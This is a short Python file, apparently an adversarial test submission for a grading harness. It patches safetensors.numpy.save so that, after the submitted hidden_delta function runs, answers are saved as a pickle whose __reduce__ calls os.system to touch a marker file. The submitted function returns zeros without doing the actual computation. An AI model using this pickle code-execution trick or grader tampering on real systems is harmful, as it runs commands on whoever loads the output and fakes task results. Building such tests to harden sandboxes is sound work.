"""Patches safetensors so that answers are a pickle."""

FAILS = {"hidden_delta"}

SOURCE = """
import os, pickle, safetensors.numpy
import frames


class Bomb:
    def __reduce__(self):
        return os.system, ("touch $lure/open/hostile",)


whole, ARMED = safetensors.numpy.save, []
safetensors.numpy.save = lambda table: pickle.dumps(Bomb()) if ARMED else whole(table)


def hidden_delta(delta_next, W_next, h, h_next, activation):
    ARMED.append(1)
    return np.zeros_like(h)
"""


def submit(work):
    work.answer("hidden_delta", SOURCE)
